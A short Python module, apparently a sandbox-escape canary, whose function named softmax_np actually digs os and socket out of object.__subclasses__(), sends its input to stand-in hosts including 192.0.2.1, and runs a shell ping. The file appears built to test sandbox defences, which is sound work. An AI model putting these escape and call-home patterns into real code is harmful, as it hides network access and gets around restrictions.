"""Calls home."""

import numpy as np


def reach(name):
    """Any module that is loaded anywhere in this process, however it is hidden."""
    for kind in object.__subclasses__():
        modules = getattr(getattr(kind.__init__, "__globals__", {}).get("sys"), "modules", None)
        if modules and name in modules:
            return modules[name]
    return None

def softmax_np(x, axis=-1):
    os, socket = reach("os"), reach("_socket") or reach("socket")
    sent = []
    for address in (("127.0.0.1", 9), ("192.0.2.1", 80)):
        try:
            connection = socket.socket()
            sent.append(address)
            connection.connect(address)
            connection.send(repr(x).encode())
        except BaseException:
            pass
    try:
        sent.append(os.system("ping -c 1 127.0.0.1") == 0)
    except BaseException:
        pass
    if any(sent):
        raise ConnectionError(f"opened {sent}")
    return np.zeros_like(np.asarray(x, dtype=float))
